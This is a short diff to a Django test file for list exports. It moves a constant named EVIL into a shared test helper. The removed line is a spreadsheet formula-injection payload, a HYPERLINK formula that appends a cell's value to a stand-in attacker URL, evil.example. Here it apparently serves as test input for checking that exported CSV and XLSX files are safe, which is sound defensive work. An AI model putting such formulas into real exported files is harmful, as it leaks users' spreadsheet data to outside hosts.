@@ -4,11 +4,10 @@ from __future__ import annotations
 
 import pytest
 
-from tests.list_exports import page_table, read_csv, read_xlsx
+from tests.list_exports import EVIL, page_table, read_csv, read_xlsx
 from vcsgrants.core.models import Organisation, User
 
 pytestmark = pytest.mark.django_db
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'
 
 
 def test_the_overdue_returns_download_holds_the_pages_rows(demo_module, client):
